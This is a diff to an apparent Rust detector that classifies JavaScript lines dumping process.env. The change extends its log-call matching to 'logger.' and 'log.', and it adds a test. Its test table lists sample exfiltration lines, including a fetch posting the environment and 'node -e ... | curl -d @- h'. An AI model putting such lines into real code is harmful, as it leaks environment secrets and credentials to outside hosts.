@@ -141,7 +141,9 @@ pub(super) fn sent_output(evidence: &Evidence<'_>) -> Verdict {
 /// The environment in a program's own log: nothing is sent, unless a shell reads what is printed.
 pub(super) fn only_printed(evidence: &Evidence<'_>) -> Verdict {
     const SHELLED: [&[u8]; 3] = [b" -e", b" -p", b"eval"];
-    let Some(at) = memmem::rfind(evidence.before, b"console.") else { return Verdict::Silent };
+    const LOGS: [&[u8]; 3] = [b"console.", b"logger.", b"log."];
+    let last = LOGS.iter().filter_map(|log| memmem::rfind(evidence.before, log)).max();
+    let Some(at) = last else { return Verdict::Silent };
     let (lead, call) = evidence.before.split_at_checked(at).unwrap_or_default();
     let is_argument = call.contains(&b'(') && !call.iter().any(|byte| b");".contains(byte));
     let is_shelled = SHELLED.iter().any(|word| holds(lead, word));
@@ -300,6 +302,7 @@ mod tests {
         for (line, verdict) in [
             ("console.log(JSON.stringify(process.env))", Verdict::Fails),
             ("console.error('env', JSON.stringify(process.env))", Verdict::Fails),
+            ("logger.info(JSON.stringify(process.env))", Verdict::Fails),
             ("console.log(1); post(u, JSON.stringify(process.env))", Verdict::Silent),
             ("fetch(u, {body: JSON.stringify(process.env)})", Verdict::Silent),
             ("node -e 'console.log(JSON.stringify(process.env))' | curl -d @- h", Verdict::Silent),
